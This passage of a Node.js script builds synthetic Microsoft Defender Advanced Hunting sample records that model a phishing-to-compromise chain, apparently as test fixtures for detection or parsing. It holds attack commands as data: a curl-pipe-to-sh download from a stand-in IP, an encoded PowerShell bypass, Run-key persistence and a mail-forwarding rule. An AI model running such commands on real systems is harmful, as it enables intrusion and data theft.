#!/usr/bin/env node
// Writes samples/streaming/*.ndjson: Event Hubs message bodies ({"records":[...]}, one per line) for
// every streamable Advanced Hunting table, written from the documented table schemas and the quirks
// seen in real exports (JSON-encoded columns, "" for missing numbers, mixed boolean encodings, 7-digit
// timestamps, Device* ReportId as a long, mojibake). Deterministic: re-running gives the same files.
'use strict';
const fs = require('node:fs');
const path = require('node:path');

const TENANT = '3f2b9c1e-7a4d-4e21-9b0a-5c6d7e8f9a01';
const out = path.join(__dirname, '..', 'samples', 'streaming');

const ts = (s) => `2026-11-23T10:${s}Z`; // minute:second.fraction
const initiating = (o = {}) => ({
  InitiatingProcessAccountDomain: 'contoso', InitiatingProcessAccountName: 'alice', InitiatingProcessAccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1105',
  InitiatingProcessAccountUpn: 'alice@contoso.com', InitiatingProcessAccountObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f',
  InitiatingProcessMD5: '5746bd7e255dd6a8afa06f7c42c1ba41', InitiatingProcessSHA1: '36c5d12033b2eaf251bae61c00690ffb17fddc87',
  InitiatingProcessSHA256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c', InitiatingProcessFileName: 'powershell.exe',
  InitiatingProcessFileSize: 450560, InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
  InitiatingProcessId: 7312, InitiatingProcessCommandLine: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\alice\\Downloads\\update.ps1',
  InitiatingProcessCreationTime: '2026-11-23T09:58:01.1234567Z', InitiatingProcessIntegrityLevel: 'Medium', InitiatingProcessTokenElevation: 'TokenElevationTypeDefault',
  InitiatingProcessParentId: 5120, InitiatingProcessParentFileName: 'explorer.exe', InitiatingProcessParentCreationTime: '2026-11-23T08:00:12.5Z',
  InitiatingProcessVersionInfoCompanyName: 'Microsoft Corporation', InitiatingProcessVersionInfoProductName: 'Microsoft® Windows® Operating System',
  InitiatingProcessVersionInfoProductVersion: '10.0.22621.1', InitiatingProcessVersionInfoInternalFileName: 'POWERSHELL',
  InitiatingProcessVersionInfoOriginalFileName: 'PowerShell.EXE.MUI', InitiatingProcessVersionInfoFileDescription: 'Windows PowerShell',
  InitiatingProcessSessionId: 2, IsInitiatingProcessRemoteSession: false, InitiatingProcessRemoteSessionDeviceName: null, InitiatingProcessRemoteSessionIP: null,
  ...o,
});
const dev = { DeviceId: '7f3a9c2b1d4e5f60718293a4b5c6d7e8f9012345', DeviceName: 'WS-ALICE01.contoso.com' };
const srv = { DeviceId: 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678', DeviceName: 'srv-db02.contoso.com' };

const rec = (table, properties, envelope = {}) => ({
  time: '2026-11-23T10:05:00.1234567Z', tenantId: TENANT, operationName: 'Publish', category: `AdvancedHunting-${table}`,
  _TimeReceivedBySvc: '2026-11-23T10:04:58.9876543Z', properties, ...envelope,
});

const device = [
  rec('DeviceProcessEvents', {
    Timestamp: ts('01:02.1234567'), ...dev, ActionType: 'ProcessCreated', FileName: 'whoami.exe', FolderPath: 'C:\\Windows\\System32\\whoami.exe',
    SHA1: '6e1e2ec5a3b7d3e7f2c0c5b5b7f0e2c1a3d4e5f6', SHA256: 'a7f2b8e4c1d3f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0', MD5: '0d1b5b8a9f2e3c4d5a6b7c8d9e0f1a2b',
    FileSize: 91648, ProcessVersionInfoCompanyName: 'Microsoft Corporation', ProcessVersionInfoProductName: 'Microsoft® Windows® Operating System',
    ProcessVersionInfoProductVersion: '10.0.22621.1', ProcessVersionInfoInternalFileName: 'whoami.exe', ProcessVersionInfoOriginalFileName: 'whoami.exe',
    ProcessVersionInfoFileDescription: 'whoami - displays logged on user information', ProcessId: 8844, ProcessCommandLine: 'whoami.exe /all',
    ProcessIntegrityLevel: 'Medium', ProcessTokenElevation: 'TokenElevationTypeDefault', ProcessCreationTime: '2026-11-23T10:01:02.1234567Z',
    AccountDomain: 'contoso', AccountName: 'alice', AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1105', AccountUpn: 'alice@contoso.com',
    AccountObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', LogonId: 999101, ...initiating(), InitiatingProcessLogonId: 999101,
    InitiatingProcessSignerType: 'OsVendor', InitiatingProcessSignatureStatus: 'Valid', ReportId: 4294967301, AppGuardContainerId: '',
    AdditionalFields: '{"InitiatingProcessAccountType":"User"}',
  }),
  rec('DeviceNetworkEvents', {
    Timestamp: ts('01:03.5'), ...dev, ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.45', RemotePort: 443, RemoteUrl: 'updates.example-cdn.net',
    LocalIP: '10.20.30.40', LocalPort: 51544, Protocol: 'Tcp', LocalIPType: 'Private', RemoteIPType: 'Public', ...initiating(), ReportId: 4294967302,
    AppGuardContainerId: '', AdditionalFields: null,
  }),
  rec('DeviceNetworkEvents', {
    Timestamp: ts('01:04'), ...srv, ActionType: 'InboundConnectionAccepted', RemoteIP: '2001:db8::17', RemotePort: 50211, RemoteUrl: '',
    LocalIP: '2001:db8::5', LocalPort: 1433, Protocol: 'Tcp', LocalIPType: 'Public', RemoteIPType: 'Public',
    ...initiating({ InitiatingProcessFileName: 'sqlservr.exe', InitiatingProcessFolderPath: 'c:\\program files\\microsoft sql server\\mssql16\\binn\\sqlservr.exe', InitiatingProcessCommandLine: '"sqlservr.exe" -sMSSQLSERVER', InitiatingProcessAccountName: 'mssqlserver', InitiatingProcessAccountDomain: 'nt service', InitiatingProcessAccountUpn: null }),
    ReportId: 4294967303, AppGuardContainerId: '', AdditionalFields: '',
  }),
  rec('DeviceNetworkEvents', {
    Timestamp: ts('01:05.25'), ...dev, ActionType: 'DnsConnectionInspected', RemoteIP: '10.0.0.53', RemotePort: 53, RemoteUrl: '', LocalIP: '10.20.30.40',
    LocalPort: 60123, Protocol: 'Udp', LocalIPType: 'Private', RemoteIPType: 'Private', ReportId: 4294967304, AppGuardContainerId: '',
    AdditionalFields: '{"direction":"Out","query":"malicious-c2.example","query_type":"A","rcode":"0"}',
  }),
  rec('DeviceFileEvents', {
    Timestamp: ts('01:06.1234567'), ...dev, ActionType: 'FileCreated', FileName: 'invoice_2026.pdf.exe', FolderPath: 'C:\\Users\\alice\\Downloads\\invoice_2026.pdf.exe',
    SHA1: 'b1946ac92492d2347c6235b4d2611184b1946ac9', SHA256: '5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592', MD5: '5d41402abc4b2a76b9719d911017c592',
    FileOriginUrl: 'https://files.example.org/dl/invoice_2026.pdf.exe', FileOriginReferrerUrl: 'https://mail.example.org/', FileOriginIP: '198.51.100.23',
    PreviousFolderPath: '', PreviousFileName: '', FileSize: 1245184, ...initiating({ InitiatingProcessFileName: 'msedge.exe', InitiatingProcessFolderPath: 'c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe', InitiatingProcessCommandLine: '"msedge.exe" --single-argument https://files.example.org/dl/invoice_2026.pdf.exe' }),
    RequestProtocol: 'Local', RequestSourceIP: '', RequestSourcePort: '', RequestAccountName: '', RequestAccountDomain: '', RequestAccountSid: '', ShareName: '',
    SensitivityLabel: '', SensitivitySubLabel: '', IsAzureInfoProtectionApplied: '0', ReportId: 4294967305, AppGuardContainerId: '',
    AdditionalFields: '{"FileType":"PortableExecutable"}',
  }),
  rec('DeviceRegistryEvents', {
    Timestamp: ts('01:07.7654321'), ...dev, ActionType: 'RegistryValueSet', RegistryKey: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    RegistryValueType: 'String', RegistryValueName: 'Updater', RegistryValueData: 'C:\\Users\\alice\\AppData\\Roaming\\updater.exe -silent',
    PreviousRegistryKey: '', PreviousRegistryValueName: '', PreviousRegistryValueData: '', ...initiating(), ReportId: 4294967306, AppGuardContainerId: '',
  }),
  rec('DeviceLogonEvents', {
    Timestamp: ts('01:08'), ...srv, ActionType: 'LogonFailed', LogonType: 'Network', AccountDomain: 'contoso', AccountName: 'administrator',
    AccountSid: '', Protocol: 'NTLM', FailureReason: 'InvalidUserNameOrPassword', IsLocalAdmin: '', LogonId: '', RemoteDeviceName: 'kali',
    RemoteIP: '198.51.100.77', RemoteIPType: 'Public', RemotePort: 40122, ...initiating({ InitiatingProcessFileName: 'lsass.exe', InitiatingProcessCommandLine: 'lsass.exe', InitiatingProcessAccountName: 'system', InitiatingProcessAccountDomain: 'nt authority', InitiatingProcessAccountUpn: null }),
    ReportId: 4294967307, AppGuardContainerId: '', AdditionalFields: '{"IsLocalLogon":false}',
  }),
  rec('DeviceImageLoadEvents', {
    Timestamp: ts('01:09.12'), ...dev, ActionType: 'ImageLoaded', FileName: 'amsi.dll', FolderPath: 'C:\\Windows\\System32\\amsi.dll',
    SHA1: 'aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d', SHA256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae', MD5: 'acbd18db4cc2f85cedef654fccc4a4d8',
    FileSize: 98304, ...initiating(), ReportId: 4294967308, AppGuardContainerId: '', MachineGroup: 'Workstations',
  }),
  rec('DeviceEvents', {
    Timestamp: ts('01:10.5'), ...dev, ActionType: 'AntivirusDetection', FileName: 'invoice_2026.pdf.exe', FolderPath: 'C:\\Users\\alice\\Downloads\\invoice_2026.pdf.exe',
    SHA1: 'b1946ac92492d2347c6235b4d2611184b1946ac9', SHA256: '5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592', MD5: '5d41402abc4b2a76b9719d911017c592',
    FileSize: 1245184, AccountDomain: null, AccountName: null, AccountSid: null, RemoteUrl: '', RemoteDeviceName: '', ProcessId: '', ProcessCommandLine: '',
    ProcessCreationTime: null, ProcessTokenElevation: '', LogonId: '', RegistryKey: '', RegistryValueName: '', RegistryValueData: '', RemoteIP: '-', RemotePort: '',
    LocalIP: '', LocalPort: '', FileOriginUrl: '', FileOriginIP: '', ...initiating(), ReportId: 4294967309, AppGuardContainerId: '',
    AdditionalFields: { ThreatName: 'Trojan:Win32/Wacatac.B!ml', WasExecutingWhileDetected: false, WasRemediated: true, Action: 'quarantine' },
    CreatedProcessSessionId: '', IsProcessRemoteSession: '', ProcessRemoteSessionDeviceName: '', ProcessRemoteSessionIP: '',
  }),
  rec('DeviceInfo', {
    Timestamp: ts('00:00'), ...dev, ClientVersion: '10.8760.22621.1234', PublicIP: '203.0.113.9', OSArchitecture: '64-bit', OSPlatform: 'Windows11',
    OSBuild: 22621, IsAzureADJoined: true, JoinType: 'Hybrid Azure AD Join', AadDeviceId: 'c0ffee00-1111-2222-3333-444455556666',
    LoggedOnUsers: '[{"UserName":"alice","DomainName":"CONTOSO","Sid":"S-1-5-21-1004336348-1177238915-682003330-1105"}]', RegistryDeviceTag: '',
    OSVersion: '10.0', MachineGroup: 'Workstations', ReportId: 4294967310, OnboardingStatus: 'Onboarded', AdditionalFields: '[]', DeviceCategory: 'Endpoint',
    DeviceType: 'Workstation', DeviceSubtype: '', Model: 'Latitude 7440', Vendor: 'Dell Inc.', OSDistribution: 'Windows 11 Enterprise', OSVersionInfo: '',
    MergedDeviceIds: '', MergedToDeviceId: '', IsInternetFacing: 0, SensorHealthState: 'Active', IsExcluded: false, ExclusionReason: '', ExposureLevel: 'Medium',
    AssetValue: 'Normal', DeviceManualTags: '["finance"]', DeviceDynamicTags: '[]', ConnectivityType: 'Streamlined', HostDeviceId: '',
  }),
  rec('DeviceNetworkInfo', {
    Timestamp: ts('00:00.0000001'), ...dev, NetworkAdapterName: 'Ethernet0', MacAddress: '00-15-5D-01-02-03', NetworkAdapterType: 'Ethernet',
    NetworkAdapterStatus: 'Up', TunnelType: 'None', ConnectedNetworks: '[{"Name":"contoso.com","Description":"contoso.com","IsConnectedToInternet":true,"Category":"Domain"}]',
    DnsAddresses: '["10.0.0.53"]', IPv4Dhcp: '10.0.0.1', IPv6Dhcp: '', DefaultGateways: '["10.20.30.1"]',
    IPAddresses: '[{"IPAddress":"10.20.30.40","SubnetPrefix":24,"AddressType":"Private"},{"IPAddress":"fe80::215:5dff:fe01:203","SubnetPrefix":64,"AddressType":"LinkLocal"}]',
    ReportId: 4294967311, NetworkAdapterVendor: 'Microsoft', MachineGroup: 'Workstations',
  }),
  rec('DeviceFileCertificateInfo', {
    Timestamp: ts('01:11'), ...dev, SHA1: 'b1946ac92492d2347c6235b4d2611184b1946ac9', IsSigned: false, SignatureType: 'None', Signer: '', SignerHash: '',
    Issuer: '', IssuerHash: '', CertificateSerialNumber: '', CrlDistributionPointUrls: null, CertificateCreationTime: null, CertificateExpirationTime: null,
    CertificateCountersignatureTime: null, IsTrusted: false, IsRootSignerMicrosoft: false, ReportId: 4294967312, MachineGroup: 'Workstations',
  }),
];

const alerts = [
  rec('AlertInfo', {
    Timestamp: ts('02:00.1000000'), AlertId: 'da638671234567890123_-1234567890', Title: 'Suspicious PowerShell command line', Category: 'Execution',
    Severity: 'High', ServiceSource: 'Microsoft Defender for Endpoint', DetectionSource: 'EDR',
    AttackTechniques: '["Command and Scripting Interpreter (T1059)","PowerShell (T1059.001)"]',
  }),
  rec('AlertEvidence', {
    Timestamp: ts('02:00.1000000'), AlertId: 'da638671234567890123_-1234567890', Title: 'Suspicious PowerShell command line', Categories: '["Execution"]',
    AttackTechniques: '["PowerShell (T1059.001)"]', ServiceSource: 'Microsoft Defender for Endpoint', DetectionSource: 'EDR', EntityType: 'Process',
    EvidenceRole: 'Impacted', EvidenceDirection: '', FileName: 'powershell.exe', FolderPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    SHA1: '36c5d12033b2eaf251bae61c00690ffb17fddc87', SHA256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c', FileSize: 450560,
    ThreatFamily: '', RemoteIP: '', RemoteUrl: '', AccountName: 'alice', AccountDomain: 'contoso', AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1105',
    AccountObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', AccountUpn: 'alice@contoso.com', ...dev, LocalIP: '10.20.30.40', NetworkMessageId: '', EmailSubject: '',
    Application: '', ApplicationId: null, OAuthApplicationId: '', ProcessCommandLine: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgA',
    RegistryKey: '', RegistryValueName: '', RegistryValueData: '', AdditionalFields: '{"ProcessId":7312,"CreationTimeUtc":"2026-11-23T09:58:01.1234567Z"}',
    Severity: 'High', CloudResource: '', CloudPlatform: '', ResourceType: '', ResourceID: '', SubscriptionId: '',
  }),
  rec('BehaviorInfo', {
    Timestamp: ts('02:30'), BehaviorId: 'ba1c2d3e4f5a6b7c8d9e', ServiceSource: 'Microsoft Defender for Cloud Apps', Title: 'Impossible travel activity',
    DetectionSource: 'Cloud App Security', ActionType: 'ImpossibleTravelActivity', Categories: '["InitialAccess"]', AttackTechniques: '["Valid Accounts (T1078)"]',
    Description: 'User alice signed in from two distant locations within 10 minutes.', Severity: 'Medium', DeviceId: '', DeviceName: '',
    AccountObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', AccountUpn: 'alice@contoso.com', StartTime: '2026-11-23T09:40:00Z', EndTime: '2026-11-23T09:50:00Z',
    DataSources: '["Microsoft Entra ID"]',
  }),
  rec('BehaviorEntities', {
    Timestamp: ts('02:30'), BehaviorId: 'ba1c2d3e4f5a6b7c8d9e', Categories: '["InitialAccess"]', ServiceSource: 'Microsoft Defender for Cloud Apps',
    DetectionSource: 'Cloud App Security', DataSources: '["Microsoft Entra ID"]', EntityType: 'Ip', EntityRole: 'Related', DetailedEntityRole: 'Source',
    FileName: '', FolderPath: '', SHA1: '', SHA256: '', FileSize: null, ThreatFamily: '', RemoteIP: '192.0.2.200', RemoteUrl: '', AccountName: '', AccountDomain: '',
    AccountSid: '', AccountObjectId: '', CloudPlatform: '', CloudResourceType: '', CloudResourceId: '', CloudSubscriptionId: '', AccountUpn: '', DeviceId: '',
    DeviceName: '', LocalIP: '', NetworkMessageId: '', EmailSubject: '', EmailClusterId: null, Application: '', ApplicationId: null, OAuthApplicationId: '',
    ProcessCommandLine: '', RegistryKey: '', RegistryValueName: '', RegistryValueData: '', ActionType: 'ImpossibleTravelActivity',
  }),
];

const email = [
  rec('EmailEvents', {
    Timestamp: ts('03:00.1'), NetworkMessageId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f', InternetMessageId: '<CAF1234567890@mail.example.net>',
    SenderMailFromAddress: 'billing@example.net', SenderFromAddress: 'billing@example.net', SenderDisplayName: 'Billing Team', SenderObjectId: '',
    SenderMailFromDomain: 'example.net', SenderFromDomain: 'example.net', SenderIPv4: '192.0.2.44', SenderIPv6: '', RecipientEmailAddress: 'alice@contoso.com',
    RecipientObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', Subject: 'Invoice 2026-11 \u2013 payment overdue (Azure\u00c2\u00ae)',
    EmailClusterId: 3117254711, EmailDirection: 'Inbound', DeliveryAction: 'Delivered', DeliveryLocation: 'Inbox/folder', ThreatTypes: 'Phish',
    ThreatNames: '', DetectionMethods: '{"Phish":["URL detonation reputation"]}', ConfidenceLevel: '{"Phish":"High"}', BulkComplaintLevel: 1,
    EmailAction: 'No action taken', EmailActionPolicy: '', EmailActionPolicyGuid: '', AuthenticationDetails: '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}',
    AttachmentCount: 1, UrlCount: 1, EmailLanguage: 'en', Connectors: '', OrgLevelAction: '', OrgLevelPolicy: '', UserLevelAction: '', UserLevelPolicy: '',
    ReportId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f-1234567890123456789-1', AdditionalFields: null, LatestDeliveryLocation: 'Inbox/folder', LatestDeliveryAction: 'Delivered',
  }),
  rec('EmailAttachmentInfo', {
    Timestamp: ts('03:00.1'), NetworkMessageId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f', SenderFromAddress: 'billing@example.net', SenderDisplayName: 'Billing Team',
    SenderObjectId: '', RecipientEmailAddress: 'alice@contoso.com', RecipientObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', FileName: 'invoice_2026.pdf.exe',
    FileType: 'exe', SHA256: '5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592', FileSize: 1245184, ThreatTypes: 'Malware',
    ThreatNames: 'Trojan:Win32/Wacatac.B!ml', DetectionMethods: '{"Malware":["File detonation"]}', ReportId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f-1234567890123456789-2',
  }),
  rec('EmailUrlInfo', {
    NetworkMessageId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f', ReportId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f-1234567890123456789-3', Timestamp: ts('03:00.1'),
    Url: 'https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice', UrlDomain: 'files.example.org', UrlLocation: 'Body',
  }),
  rec('EmailPostDeliveryEvents', {
    Timestamp: ts('04:10.5'), NetworkMessageId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f', InternetMessageId: '<CAF1234567890@mail.example.net>',
    Action: 'Moved to quarantine', ActionType: 'Phish ZAP', ActionTrigger: 'Automatic', ActionResult: 'Success', RecipientEmailAddress: 'alice@contoso.com',
    DeliveryLocation: 'Quarantine', ThreatTypes: 'Phish', DetectionMethods: '{"Phish":["URL detonation reputation"]}',
    ReportId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f-1234567890123456789-4',
  }),
  rec('UrlClickEvents', {
    Timestamp: ts('03:30.25'), Url: 'https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice', ActionType: 'ClickAllowed', AccountUpn: 'alice@contoso.com',
    Workload: 'Email', NetworkMessageId: '9c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f', ThreatTypes: 'Phish', DetectionMethods: '', IPAddress: '203.0.113.9',
    IsClickedThrough: 1, UrlChain: '["https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice"]', ReportId: 'click-5f4e3d2c1b0a',
  }),
  rec('MessageEvents', {
    Timestamp: ts('05:00'), LastEditedTime: null, TeamsMessageId: '1732356000000', SenderEmailAddress: 'mallory@fabrikam.example', SenderDisplayName: 'Mallory',
    SenderObjectId: null, SenderType: 'External', IsOwnedThread: false, MessageId: '1732356000000', ParentMessageId: null, GroupId: null, GroupName: null,
    ThreadId: '19:abc@unq.gbl.spaces', ThreadSubtype: 'OneOnOne', IsExternalThread: true, MessageFormatType: 'RichText', MessageFormatSubtype: '', MessageVersion: '1',
    MessageSubject: null, ThreatTypes: '["Phish"]', DetectionMethods: '["URL detonation"]', ConfidenceLevel: '{"Phish":"High"}', DeliveryAction: 'Blocked',
    DeliveryLocation: 'Quarantine', ReportId: 'teams-1732356000000', SafetyTip: null,
  }),
  rec('MessageUrlInfo', {
    Timestamp: ts('05:00'), TeamsMessageId: '1732356000000', Url: 'https://login.fabrikam-secure.example/reset', UrlDomain: 'login.fabrikam-secure.example',
    ThreatTypes: '["Phish"]', ReportId: 'teams-url-1732356000000',
  }),
  rec('MessagePostDeliveryEvents', {
    Timestamp: ts('06:00'), TeamsMessageId: '1732356000000', Action: 'Quarantine', ActionType: 'Phish ZAP', ActionTrigger: 'Automatic', ActionResult: 'Success',
    SenderEmailAddress: 'mallory@fabrikam.example', ThreatTypes: '["Phish"]', ConfidenceLevel: '{"Phish":"High"}', DetectionMethods: '["URL detonation"]',
    LatestDeliveryLocation: 'Quarantine', ReportId: 'teams-zap-1732356000000', IsExternalThread: true, SafetyTip: null,
  }),
];

const identity = [
  rec('IdentityLogonEvents', {
    Timestamp: ts('07:00'), ActionType: 'LogonFailed', Application: 'Active Directory', LogonType: 'Credentials validation', Protocol: 'Kerberos',
    FailureReason: 'WrongPassword', AccountName: 'bob', AccountDomain: 'contoso.com', AccountUpn: 'bob@contoso.com', AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1107',
    AccountObjectId: '0e9d8c7b-6a5f-4e3d-2c1b-0a9f8e7d6c5b', AccountDisplayName: 'Bob Builder', DeviceName: 'WS-BOB02.contoso.com', DeviceType: 'Desktop',
    OSPlatform: 'Windows 10', IPAddress: '10.20.31.7', Port: '', DestinationDeviceName: 'DC01.contoso.com', DestinationIPAddress: '10.0.0.10', DestinationPort: 88,
    TargetDeviceName: '', TargetAccountDisplayName: '', Location: '', Isp: '', ReportId: 'idlogon-0001', AdditionalFields: '{"Count":"3","Spns":"krbtgt/CONTOSO.COM"}',
  }),
  rec('IdentityQueryEvents', {
    Timestamp: ts('07:30'), ActionType: 'DNS query', Application: 'Active Directory', QueryType: 'A', QueryTarget: 'malicious-c2.example', Query: 'malicious-c2.example',
    Protocol: 'Dns', AccountName: '', AccountDomain: '', AccountUpn: '', AccountSid: '', AccountObjectId: '', AccountDisplayName: '',
    DeviceName: 'ws-alice01.contoso.com', IPAddress: '10.20.30.40', Port: 60123, DestinationDeviceName: 'dc01.contoso.com', DestinationIPAddress: '10.0.0.10',
    DestinationPort: 53, TargetDeviceName: '', TargetAccountUpn: '', TargetAccountDisplayName: '', Location: '', IsAdminOperation: false, ReportId: 'idquery-0001',
    AdditionalFields: { Count: '1', 'FROM.DEVICE': 'WS-ALICE01', 'TO.DEVICE': 'DC01' },
  }),
  rec('IdentityDirectoryEvents', {
    Timestamp: ts('08:00'), ActionType: 'Group Membership changed', Application: 'Active Directory', TargetAccountUpn: 'bob@contoso.com',
    TargetAccountDisplayName: 'Bob Builder', TargetDeviceName: '', DestinationDeviceName: 'DC01.contoso.com', DestinationIPAddress: '10.0.0.10', DestinationPort: '',
    Protocol: 'Ldap', AccountName: 'eve', AccountDomain: 'contoso.com', AccountUpn: 'eve@contoso.com', AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1199',
    AccountObjectId: '11111111-2222-3333-4444-555555555555', AccountDisplayName: 'Eve Admin', DeviceName: 'WS-EVE03.contoso.com', IPAddress: '10.20.32.9', Port: 49822,
    Location: '', ISP: '', IsAdminOperation: '1', ReportId: 'iddir-0001',
    AdditionalFields: '{"TO.GROUP":"Domain Admins","GROUP.NAME":"Domain Admins","AttackTechniques":"Account Manipulation (T1098), Domain Account (T1087.002)"}',
  }),
  rec('IdentityInfo', {
    Timestamp: ts('00:00'), ReportId: 'idinfo-0001', AccountObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', AccountUpn: 'alice@contoso.com',
    OnPremSid: 'S-1-5-21-1004336348-1177238915-682003330-1105', CloudSid: '', GivenName: 'Alice', Surname: 'Anders', AccountDisplayName: 'Alice Anders',
    Department: 'Finance', JobTitle: 'Accountant', AccountName: 'alice', AccountDomain: 'contoso.com', EmailAddress: 'alice@contoso.com', SipProxyAddress: '',
    Address: '', City: 'Zürich', Country: 'CH', IsAccountEnabled: true, Manager: 'carol@contoso.com', Phone: '', CreatedDateTime: '2020-01-15T08:00:00Z',
    SourceProvider: 'ActiveDirectory', ChangeSource: '', BlastRadius: 'Low', CompanyName: 'Contoso', DeletedDateTime: null, DistinguishedName: 'CN=Alice Anders,OU=Finance,DC=contoso,DC=com',
    EmployeeId: '10042', OtherMailAddresses: '[]', RiskLevel: 'Low', RiskLevelDetails: '', State: '', Tags: '["Sensitive"]', Type: 'User', CriticalityLevel: null,
  }),
  rec('CloudAppEvents', {
    Timestamp: ts('09:00.1234567'), ActionType: 'New-InboxRule', Application: 'Microsoft Exchange Online', ApplicationId: 20893, AppInstanceId: 0,
    AccountObjectId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', AccountId: '6b1f0a7e-2d3c-4b5a-9e8f-7a6b5c4d3e2f', AccountDisplayName: 'Alice Anders',
    IsAdminOperation: '', DeviceType: 'Desktop', OSPlatform: 'Windows', IPAddress: '192.0.2.200', IsAnonymousProxy: false, CountryCode: 'NL', City: 'Amsterdam',
    Isp: 'example transit', UserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', ActivityType: 'Create', ActivityObjects: '[{"Type":"Mailbox","Name":"alice@contoso.com"}]',
    ObjectName: 'forward-all', ObjectType: 'Inbox rule', ObjectId: 'rule-0001', ReportId: 'cae-0001', AccountType: 'Regular', IsExternalUser: false,
    IsImpersonated: false, IPTags: '["Hosting"]', IPCategory: 'Hosting', UserAgentTags: '[]',
    RawEventData: '{"Operation":"New-InboxRule","Parameters":[{"Name":"ForwardTo","Value":"drop@example.net"}]}', AdditionalFields: '{}',
    LastSeenForUser: '{"ActionType":0,"IPAddress":-1}', UncommonForUser: '["IPAddress","CountryCode"]', AuditSource: 'Defender for Cloud Apps access control',
    SessionData: '{"InteractiveSessionId":"s-123"}', OAuthAppId: '',
  }),
];

const cloud = [
  rec('CloudAuditEvents', {
    Timestamp: ts('10:00'), ReportId: 'cad-0001', DataSource: 'Azure Resource Manager', ActionType: 'Microsoft.Authorization/roleAssignments/write',
    OperationName: 'Create role assignment', ResourceId: '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-prod', IPAddress: '192.0.2.200',
    IsAnonymousProxy: false, CountryCode: 'NL', City: 'Amsterdam', Isp: 'example transit', UserAgent: 'AzureCLI/2.66.0', RawEventData: '{"caller":"eve@contoso.com"}',
    AdditionalFields: '{}',
  }),
  rec('CloudProcessEvents', {
    Timestamp: ts('10:30'), AzureResourceId: '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/aks/providers/Microsoft.ContainerService/managedClusters/prod',
    AwsResourceName: '', GcpFullResourceName: '', ContainerImageName: 'registry.example/web:1.2.3', KubernetesNamespace: 'default', KubernetesPodName: 'web-7d9f8c6b5-abcde',
    KubernetesResource: 'deployment/web', ContainerName: 'web', ContainerId: '0123456789abcdef', ActionType: 'ProcessCreated', FileName: 'curl',
    FolderPath: '/usr/bin/curl', ProcessId: 4242, ProcessName: 'curl', ParentProcessName: 'sh', ParentProcessId: 4200,
    ProcessCommandLine: 'curl -s http://198.51.100.99/x.sh | sh', ProcessCreationTime: '2026-11-23T10:10:30.0000001Z', ProcessCurrentWorkingDirectory: '/app',
    AccountName: 'root', LogonId: '', InitiatingProcessId: 4200, AdditionalFields: null,
  }),
  rec('CloudStorageAggregatedEvents', {
    Timestamp: ts('11:00'), DataAggregationStartTime: '2026-11-23T10:00:00Z', DataAggregationEndTime: '2026-11-23T10:10:00Z', DataSource: 'Azure Storage',
    SubscriptionId: '00000000-0000-0000-0000-000000000001', ResourceGroup: 'rg-data', StorageAccount: 'contosodata', StorageContainer: 'exports', StorageFileShare: '',
    ServiceType: 'Blob', IpAddress: '198.51.100.99', UserAgentHeader: 'python-requests/2.32', OperationNamesList: '["GetBlob","ListBlobs"]', AuthenticationType: 'SAS',
    AccountObjectId: '', AccountTenantId: '', AccountApplicationId: '', AccountUpn: '', AccountType: '', OperationsCount: 1520, SuccessfulOperationsCount: 1519,
    FailedOperationsCount: 1, FirstEventTimestamp: '2026-11-23T10:00:05Z', LastEventTimestamp: '2026-11-23T10:09:55Z', TotalResponseLength: 987654321,
    SuccessfulReadOperations: 1500, DistinctGetOperations: 1490, AnonymousSuccessfulOperations: 0, HasAnonymousResourceNotFoundFailures: false,
    CountryName: 'Netherlands', CityName: 'Amsterdam', ProvinceName: 'North Holland', ClientSystemServiceName: '', ClientCloudPlatformName: '', IsTorExitNode: false,
